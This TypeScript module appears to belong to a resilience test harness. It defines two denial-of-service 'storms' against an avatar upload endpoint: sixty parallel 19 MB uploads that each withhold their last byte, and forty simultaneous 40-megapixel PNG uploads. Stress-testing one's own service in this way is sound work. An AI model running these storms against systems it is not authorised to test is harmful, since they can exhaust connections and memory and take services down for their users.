import sharp from 'sharp'
import { type Attack, hold } from '../attack.ts'
import { headOf, openLine } from '../send.ts'

const BOUNDARY = 'studio-boundary'
const AVATAR_BYTES = 19_000_000

function formOf(file: Buffer, type: string): Buffer {
  const head = `--${BOUNDARY}\r\ncontent-disposition: form-data; name="file"; filename="a"\r\ncontent-type: ${type}\r\n\r\n`
  return Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)])
}

const contentType = `multipart/form-data; boundary=${BOUNDARY}`

/** Sends sixty photos of 19 MB in parallel as one person, withholding the last byte. */
const heldPictures: Attack = {
  name: '60 photos of 19 MB with the last byte withheld',
  kind: 'storm',
  lasts: 12_000,
  shortLasts: 3_000,
  async run(field) {
    const { id, token } = field.target.people.coach
    const form = formOf(Buffer.alloc(AVATAR_BYTES, 1), 'image/png')
    const headers = { 'content-type': contentType, 'content-length': String(form.length) }
    const head = headOf({
      method: 'PUT',
      path: `/api/User/updateAvatarById/${id}`,
      from: field.from,
      token,
      headers,
    })
    const lines = Array.from({ length: 60 }, () => {
      const line = openLine(field.target)
      line.write(head)
      line.write(form.subarray(0, -1))
      return line
    })
    await hold(field)
    for (const line of lines) line.destroy()
  },
}

/** Sends forty pictures with the maximum number of pixels, in parallel. */
const largePictures: Attack = {
  name: '40 pictures of 40 million pixels at once',
  kind: 'storm',
  lasts: 0,
  async run(field) {
    const { id, token } = field.target.people.coach
    const background = { r: 90, g: 120, b: 110 }
    const picture = await sharp({ create: { width: 8_000, height: 5_000, channels: 3, background } })
      .png({ compressionLevel: 9 })
      .toBuffer()
    const body = formOf(picture, 'image/png')
    const path = `/api/User/updateAvatarById/${id}`
    const headers = { 'content-type': contentType }
    await Promise.all(
      Array.from({ length: 40 }, () => field.send({ method: 'PUT', path, token, headers, body })),
    )
  },
}

export const uploadStorms: Attack[] = [heldPictures, largePictures]
